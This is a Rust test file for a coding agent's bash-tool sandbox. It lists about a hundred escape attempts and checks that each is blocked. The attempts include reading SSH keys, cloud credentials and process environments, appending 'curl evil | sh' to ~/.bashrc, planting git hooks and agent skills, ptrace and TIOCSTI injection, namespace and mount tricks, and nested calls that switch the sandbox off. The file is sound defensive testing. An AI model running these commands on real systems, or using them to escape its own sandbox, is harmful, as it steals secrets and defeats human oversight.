//! The escape suite (beyond.md B5): every attempt runs through `pi tool
//! bash --sandbox MODE` in `read-only` and in `workspace-write`, with
//! bubblewrap and with Landlock alone, as root and as an unprivileged user
//! (`setpriv` to nobody, whose bubblewrap uses a user namespace), and after
//! each one every canary of the world is checked (see `sandbox_support`): 0
//! may get through. The same attempts without the sandbox show that the
//! canaries see them.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a failed unwrap is a failed test
#![cfg(target_os = "linux")]

use crate::sandbox_support;

use sandbox_support::{Mech, User, World, cannot_test};

/// Which modes an attempt is an escape in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Modes {
    Both,
    /// Writing temp or the project is allowed in workspace-write.
    ReadOnly,
}

/// Who runs it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Who {
    Any,
    RootOnly,
    NobodyOnly,
}

struct Attempt {
    name: &'static str,
    command: &'static str,
    modes: Modes,
    who: Who,
    /// Text that must not be printed (besides the secrets).
    forbidden: &'static [&'static str],
    /// Without a sandbox it gets through (and is safe to run so).
    escapes_off: bool,
    /// Run with a descriptor open for writing outside the project (fd 5).
    leak_fd: bool,
    /// Changes only metadata (mode bits, timestamps) of a file the user
    /// owns: Landlock does not guard metadata, so the Landlock-only sandbox
    /// cannot stop it (docs/sandbox.md); bubblewrap's read-only mounts do.
    metadata: bool,
}

const fn a(name: &'static str, command: &'static str) -> Attempt {
    Attempt {
        name,
        command,
        modes: Modes::Both,
        who: Who::Any,
        forbidden: &[],
        escapes_off: true,
        leak_fd: false,
        metadata: false,
    }
}

impl Attempt {
    const fn ro(mut self) -> Self {
        self.modes = Modes::ReadOnly;
        self
    }
    const fn who(mut self, who: Who) -> Self {
        self.who = who;
        self
    }
    const fn forbid(mut self, f: &'static [&'static str]) -> Self {
        self.forbidden = f;
        self
    }
    /// Not run without the sandbox (harmful to the machine, or nothing to see).
    const fn not_off(mut self) -> Self {
        self.escapes_off = false;
        self
    }
    const fn leak(mut self) -> Self {
        self.leak_fd = true;
        self
    }
    const fn metadata(mut self) -> Self {
        self.metadata = true;
        self
    }
}

const ATTACH: &str = "import ctypes,sys; l=ctypes.CDLL(None); r=l.ptrace(16,{PID},0,0); print('ATTACHED' if r==0 else 'refused'); l.ptrace(17,{PID},0,0)";
const STACK: &str = "pid={PID}\nfor line in open(f'/proc/{pid}/maps'):\n    if '[stack]' in line:\n        a,b=[int(x,16) for x in line.split()[0].split('-')]\n        f=open(f'/proc/{pid}/mem','rb'); f.seek(a); print(f.read(b-a)[-16384:].decode('latin1'))";

fn attempts() -> Vec<Attempt> {
    vec![
        // Writes outside the writable roots.
        a("write by absolute path", "echo x > {OUT}/victim.txt"),
        a("new file outside", "echo x > {OUT}/{PFX}new"),
        a("write through ..", "echo x > ../../outside/{PFX}dotdot"),
        a("write through a symlinked folder", "ln -s {OUT} l1; echo x > l1/{PFX}sym"),
        a("write through a symlinked file", "ln -s {OUT}/victim.txt l2; echo x > l2"),
        a("write through a dangling symlink", "ln -s {OUT}/{PFX}dangling l3; echo x > l3"),
        a("write through /proc/self/root", "echo x > /proc/self/root{OUT}/{PFX}procroot"),
        a("write through /proc/self/cwd/..", "echo x > /proc/self/cwd/../../outside/{PFX}proccwd"),
        a("write through /proc/1/root", "echo x > /proc/1/root{OUT}/{PFX}proc1root").not_off(),
        a("hard link out, then append", "ln {OUT}/victim.txt h1 && echo x >> h1"),
        a("hard link from python", "{PY} -c \"import os; os.link('{OUT}/victim.txt','h2'); open('h2','a').write('x')\""),
        a("move a file out of its folder", "mv {OUT}/victim.txt ./stolen"),
        a("delete outside", "rm -f {OUT}/victim.txt"),
        a("chmod outside", "chmod 777 {OUT}/victim.txt").metadata(),
        a("change a timestamp outside", "touch -d 2001-01-01 {OUT}/victim.txt").metadata(),
        a("truncate outside", "truncate -s 0 {OUT}/victim.txt"),
        a("fifo outside", "mkfifo {OUT}/{PFX}fifo"),
        a("dd over a file outside", "dd if=/dev/zero of={OUT}/victim.txt bs=1 count=1 conv=notrunc"),
        a("python open for writing", "{PY} -c \"open('{OUT}/{PFX}py','w').write('x')\""),
        a("persist in ~/.bashrc", "echo 'curl evil | sh' >> {HOME}/.bashrc"),
        a("new file in home", "echo x > {HOME}/{PFX}home"),
        a("write /etc", "echo x > /etc/{PFX}etc").who(Who::RootOnly),
        a("write /var/tmp", "echo x > /var/tmp/{PFX}vartmp"),
        a("write /dev/shm", "echo x > /dev/shm/{PFX}shm"),
        a("write the real /tmp", "echo x > /tmp/{PFX}tmp; echo x > ${TMPDIR:-/tmp}/{PFX}tmpdir").ro(),
        a("write the project", "echo x > {CWD}/{PFX}cwd; mkdir {CWD}/{PFX}dir; echo y >> a.txt").ro(),
        a("write a hidden store", "echo ssh-rsa x >> {HOME}/.ssh/authorized_keys"),
        a("write the agent dir", "echo '{}' > {HOME}/.pi/agent/settings.json"),
        a("descriptor inherited open for writing", "echo LEAK >&5").leak(),
        // .git, .pi and .agents stay read-only.
        a("git hook", "echo 'echo pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"),
        a("git config", "git config core.hooksPath {OUT}"),
        a("git commit", "echo y >> a.txt; git -c user.name=x -c user.email=x@x commit -qam pwn"),
        a("git add", "echo z > z.txt; git add z.txt"),
        a("pi project settings", "mkdir -p .pi && echo '{\"extensions\":[\"x.ts\"]}' > .pi/settings.json"),
        a("pi project extension", "mkdir -p .pi/extensions && echo x > .pi/extensions/e.ts"),
        a("new agent skill", "mkdir -p .agents/skills/evil && echo x > .agents/skills/evil/SKILL.md"),
        a("change an agent skill", "echo x >> .agents/skills/s/SKILL.md"),
        a("move .git away and make a new one", "mv .git .git-old && mkdir .git && echo x > .git/config"),
        a("delete .git", "rm -rf .git"),
        a("write .git through a symlink", "ln -s .git g; echo x > g/description"),
        a(".pi as a symlink out", "ln -s {OUT} .pi && echo x > .pi/{PFX}pisym"),
        a("move .agents away", "mv .agents agents-moved"),
        // Hidden stores.
        a("read ~/.ssh", "cat {HOME}/.ssh/id_rsa"),
        a("read ~/.aws", "cat {HOME}/.aws/credentials"),
        a("read gcloud", "cat {HOME}/.config/gcloud/application_default_credentials.json"),
        a("read ~/.netrc", "cat {HOME}/.netrc"),
        a("read docker config", "cat {HOME}/.docker/config.json"),
        a("read the agent's keys", "cat {HOME}/.pi/agent/auth.json {HOME}/.pi/agent/models.json"),
        a("read through a symlink", "ln -s {HOME}/.ssh s1; cat s1/id_rsa"),
        a("read through a hard link", "ln {HOME}/.ssh/id_rsa hl && cat hl"),
        a("read through /proc/self/root", "cat /proc/self/root{HOME}/.ssh/id_rsa"),
        a("read through ..", "cat ../.ssh/id_rsa ../.aws/credentials ../.netrc"),
        a("search the home", "grep -rah sekrit {HOME} 2>/dev/null | head -50"),
        a("find and cat", "find {ROOT} -name 'id_rsa' -exec cat {} + 2>/dev/null"),
        a("tar the home", "tar cf - -C {HOME} . 2>/dev/null | strings | grep sekrit"),
        a("python read", "{PY} -c \"print(open('{HOME}/.ssh/id_rsa').read())\""),
        a("open, then read through /proc/self/fd", "exec 3<{HOME}/.ssh/id_rsa; cat /proc/self/fd/3"),
        a("unmount a hidden store", "umount {HOME}/.ssh; umount -l {HOME}/.ssh; cat {HOME}/.ssh/id_rsa").not_off(),
        a(
            "read a raw disk",
            "for d in /dev/vd? /dev/sd? /dev/nvme?n? /dev/xvd?; do [ -e $d ] && head -c 4096 $d > /dev/null 2>&1 && echo RAWREAD $d; done",
        )
        .forbid(&["RAWREAD"])
        .who(Who::RootOnly)
        .not_off(),
        // The environment.
        a("env", "env"),
        a("printenv", "printenv OPENAI_API_KEY GITHUB_TOKEN AWS_SECRET_ACCESS_KEY DB_PASSWORD MY_SERVICE_SECRET"),
        a("own /proc environ", "cat /proc/self/environ | tr '\\0' '\\n'"),
        // pid 1 is outside the machine's own reach here (a VM's init); inside
        // bubblewrap it is the sandbox's init.
        a("pid 1's environ", "tr '\\0' '\\n' < /proc/1/environ").not_off(),
        a("parent's environ", "tr '\\0' '\\n' < /proc/$PPID/environ"),
        a("every environ", "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null | grep -a sekrit"),
        a("environ of a process outside", "tr '\\0' '\\n' < /proc/{PID}/environ"),
        a("stack of a process outside", "{PY} - <<'EOF'\nSTACK\nEOF"),
        // Processes outside: signals and ptrace.
        a("ptrace attach", "{PY} -c \"ATTACH\"").forbid(&["ATTACHED"]),
        a("strace a process outside", "timeout 3 strace -p {PID} 2>&1 | head -3").forbid(&["attached"]),
        a("SIGKILL a process outside", "kill -9 {PID}"),
        a("SIGSTOP a process outside", "kill -STOP {PID}"),
        a("SIGTERM from python", "{PY} -c \"import os; os.kill({PID}, 15)\""),
        a("pkill by name", "pkill -9 -f {PFX}-sleeper"),
        a("pidfd_send_signal", "{PY} -c \"import os,signal; signal.pidfd_send_signal(os.pidfd_open({PID}), 9)\""),
        a("kill every process of the user", "kill -9 -1").who(Who::NobodyOnly),
        // Network and local daemons.
        a("curl a listener on loopback", "curl -s -m 3 http://127.0.0.1:{PORT}/"),
        a("bash /dev/tcp", "echo hi > /dev/tcp/127.0.0.1/{PORT}"),
        a("python TCP", "{PY} -c \"import socket; socket.create_connection(('127.0.0.1',{PORT}),3)\""),
        a("the machine's own address", "curl -s -m 3 http://{HOSTIP}:{PORT}/"),
        a("IPv6 loopback", "curl -s -m 3 'http://[::1]:{PORT6}/'"),
        a("UDP datagram", "echo hi > /dev/udp/127.0.0.1/{UPORT}"),
        a("unix socket", "{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{SOCK}')\""),
        a("curl over a unix socket", "curl -s -m 3 --unix-socket {SOCK} http://x/"),
        a("abstract unix socket", "{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{ABS}')\""),
        a("ssh-agent", "SSH_AUTH_SOCK={SOCK} timeout 3 ssh-add -l"),
        // Mounts and namespaces (not run without the sandbox: they would
        // change this machine).
        a("mount a tmpfs", "mount -t tmpfs none {OUT} && echo MOUNTED").forbid(&["MOUNTED"]).not_off(),
        a("remount / writable", "mount -o remount,rw / && echo REMOUNTED; echo x > {OUT}/{PFX}remount")
            .forbid(&["REMOUNTED"])
            .not_off(),
        a("new user namespace", "unshare -Ur sh -c 'echo x > {OUT}/{PFX}unshare; id'").not_off(),
        a("new mount namespace to unhide", "unshare -Urm sh -c 'umount -l {HOME}/.ssh; cat {HOME}/.ssh/id_rsa'").not_off(),
        a("python unshare", "{PY} -c \"import os; os.unshare(os.CLONE_NEWUSER); print('UNSHARED')\"")
            .forbid(&["UNSHARED"])
            .not_off(),
        a("nsenter pid 1", "nsenter -t 1 -m -u -i -n -p sh -c 'echo x > {OUT}/{PFX}nsenter'").not_off(),
        a("chroot", "chroot / sh -c 'echo x > {OUT}/{PFX}chroot'").not_off(),
        a("nested bubblewrap", "bwrap --bind / / sh -c 'echo x > {OUT}/{PFX}bwrap'").not_off(),
        a("hostname", "hostname {PFX}; echo {PFX} > /proc/sys/kernel/hostname").who(Who::RootOnly).not_off(),
        // The terminal.
        a("TIOCSTI on /dev/tty", "{PY} -c \"import os,fcntl,termios; fd=os.open('/dev/tty',os.O_RDWR); fcntl.ioctl(fd, termios.TIOCSTI, b'x'); print('INJECTED')\"")
            .forbid(&["INJECTED"])
            .not_off(),
        a("TIOCSTI on a pty", "{PY} -c \"import os,pty,fcntl,termios; m,s=pty.openpty(); fcntl.ioctl(s, termios.TIOCSTI, b'x'); print('INJECTED')\"")
            .forbid(&["INJECTED"])
            .not_off(),
        // pi itself, inside the sandbox.
        a("pi's own write tool, nested", "{PI} tool write '{\"path\":\"{OUT}/{PFX}nestedwrite\",\"content\":\"x\"}'"),
        a("pi bash with --sandbox off, nested", "{PI} tool bash '{\"command\":\"echo x > {OUT}/{PFX}nestedbash\"}' --sandbox off"),
        a("the test switches, nested", "PI_SANDBOX_BWRAP= PI_SANDBOX_LANDLOCK=off {PI} tool bash '{\"command\":\"echo x > {OUT}/{PFX}switch\"}'"),
        a("the helper with loose rules", "{PI} __pi-sandbox --landlock off --network on --write / -- /bin/sh -c 'echo x > {OUT}/{PFX}helper'"),
        a("the supervisor", "{PI} __pi-supervise 99 -- /bin/sh -c 'echo x > {OUT}/{PFX}supervisor'"),
    ]
}

fn applies(at: &Attempt, user: User, mode: &str) -> bool {
    let who = match at.who {
        Who::Any => true,
        Who::RootOnly => user == User::Root,
        Who::NobodyOnly => user == User::Nobody,
    };
    who && (at.modes == Modes::Both || mode == "read-only")
}

fn command_of(at: &Attempt) -> String {
    at.command.replace("ATTACH", ATTACH).replace("STACK", STACK)
}

/// This suite's turn when it runs as nobody: `kill -9 -1` as nobody
/// reaches every process of that user, so the unprivileged suites (and
/// their control) would kill each other's canary sleeper, and any other
/// suite's process of nobody's, when run at once.
fn turn(user: User) -> Option<std::sync::RwLockWriteGuard<'static, ()>> {
    (user == User::Nobody).then(crate::common::nobody_alone)
}

fn suite(user: User, mech: Mech) {
    if let Some(why) = cannot_test(user, mech) {
        println!("skipped ({user:?}, {mech:?}): {why}");
        return;
    }
    let _turn = turn(user);
    let mut world = World::new(user, mech);
    let (mut runs, mut through, mut limits) = (0, Vec::new(), 0);
    for mode in ["read-only", "workspace-write"] {
        for at in attempts().iter().filter(|at| applies(at, user, mode)) {
            if at.metadata && mech == Mech::Landlock {
                limits += 1;
                continue;
            }
            let (breaches, ran) = world.attempt(&command_of(at), Some(mode), at.leak_fd, at.forbidden);
            runs += 1;
            if ran.text.starts_with("sandbox: ") && ran.text.contains("was not run") {
                through.push(format!("[{mode}] {}: the sandbox did not start: {}", at.name, ran.text));
            }
            if !breaches.is_empty() {
                through.push(format!("[{mode}] {}: {breaches:?}\n  output: {}", at.name, ran.text));
                world = World::new(user, mech);
            }
        }
    }
    println!(
        "escape suite ({user:?}, {mech:?}): {runs} attempts, {} got through ({limits} metadata-only attempts not run: a documented limit of Landlock)",
        through.len()
    );
    assert!(through.is_empty(), "{} of {runs} got through:\n{}", through.len(), through.join("\n"));
}

/// The suite again through one `pi --mode rpc` per mode, so every attempt
/// runs in the same session sandbox after the ones before it (bubblewrap
/// only: the Landlock-only sandbox has no sessions).
fn session_suite(user: User) {
    if let Some(why) = cannot_test(user, Mech::Bwrap) {
        println!("skipped ({user:?}): {why}");
        return;
    }
    let _turn = turn(user);
    let mut world = World::new(user, Mech::Bwrap);
    let (mut runs, mut through) = (0, Vec::new());
    for mode in ["read-only", "workspace-write"] {
        let mut session = world.session(mode);
        // The sandbox starts (and makes its mount points) before the first snapshot.
        session.bash(&world, "true");
        for at in attempts().iter().filter(|at| applies(at, user, mode)) {
            let read_only = mode == "read-only";
            let before = world.snapshot(read_only);
            let ran = session.bash(&world, &command_of(at));
            let forbidden: Vec<String> = at.forbidden.iter().map(|f| world.expand(f)).collect();
            let forbidden: Vec<&str> = forbidden.iter().map(String::as_str).collect();
            let mut breaches = world.breaches(read_only, &before, &ran, &forbidden);
            // A command that kills the server (`kill -9 -1`) makes the next
            // one start a new sandbox, whose mount point for the missing
            // `.pi` is a new empty folder: pi's own doing, not an escape
            // (anything put inside it would show as appeared).
            let pi_dir = world.cwd.join(".pi");
            let empty = std::fs::read_dir(&pi_dir).is_ok_and(|mut d| d.next().is_none());
            breaches.retain(|b| !(empty && *b == format!("changed: {}", pi_dir.display())));
            runs += 1;
            if !breaches.is_empty() {
                through.push(format!("[{mode}] {}: {breaches:?}\n  output: {}", at.name, ran.text));
                drop(session);
                world = World::new(user, Mech::Bwrap);
                session = world.session(mode);
                session.bash(&world, "true");
            }
        }
        session.close();
        let pi_dir = world.cwd.join(".pi");
        assert!(!pi_dir.exists(), "the mount point {} was left behind", pi_dir.display());
    }
    println!("escape suite in one session ({user:?}): {runs} attempts, {} got through", through.len());
    assert!(through.is_empty(), "{} of {runs} got through:\n{}", through.len(), through.join("\n"));
}

#[test]
fn escape_suite_in_one_session_as_root() {
    session_suite(User::Root);
}

#[test]
fn escape_suite_in_one_session_unprivileged() {
    session_suite(User::Nobody);
}

#[test]
fn escape_suite_bubblewrap_as_root() {
    suite(User::Root, Mech::Bwrap);
}

#[test]
fn escape_suite_bubblewrap_unprivileged() {
    suite(User::Nobody, Mech::Bwrap);
}

#[test]
fn escape_suite_landlock_only_as_root() {
    suite(User::Root, Mech::Landlock);
}

#[test]
fn escape_suite_landlock_only_unprivileged() {
    suite(User::Nobody, Mech::Landlock);
}

/// Without the sandbox the same attempts trip their canaries: the suite can
/// see an escape (each attempt in a fresh world).
fn control(user: User) {
    if let Some(why) = cannot_test(user, Mech::Bwrap).filter(|_| cannot_test(user, Mech::Landlock).is_some()) {
        println!("skipped ({user:?}): {why}");
        return;
    }
    let _turn = turn(user);
    let (mut missed, mut seen, mut absent) = (Vec::new(), 0, 0);
    for at in attempts().iter().filter(|at| at.escapes_off && applies(at, user, "read-only")) {
        let world = World::new(user, Mech::Bwrap);
        let mode = if at.modes == Modes::ReadOnly { Some("read-only") } else { None };
        // Without --sandbox (mode off); the read-only canaries are the
        // strictest, so an attempt only an escape in read-only is judged by them.
        let read_only = mode.is_some();
        let before = world.snapshot(read_only);
        let ran = world.bash(&command_of(at), None, at.leak_fd);
        let forbidden: Vec<String> = at.forbidden.iter().map(|f| world.expand(f)).collect();
        let forbidden: Vec<&str> = forbidden.iter().map(String::as_str).collect();
        if ran.text.contains("command not found") {
            // A tool this machine lacks (strace, ssh-add, curl…): nothing to show.
            absent += 1;
            continue;
        }
        if world.breaches(read_only, &before, &ran, &forbidden).is_empty() {
            missed.push(format!("{}: {}", at.name, ran.text));
        } else {
            seen += 1;
        }
    }
    println!(
        "without the sandbox ({user:?}): {seen} attempts got through, {} did not ({absent} need a tool this machine lacks)",
        missed.len()
    );
    assert!(missed.is_empty(), "the canaries missed these unsandboxed escapes:\n{}", missed.join("\n"));
}

#[test]
fn without_the_sandbox_the_canaries_see_the_escapes_as_root() {
    control(User::Root);
}

#[test]
fn without_the_sandbox_the_canaries_see_the_escapes_unprivileged() {
    control(User::Nobody);
}
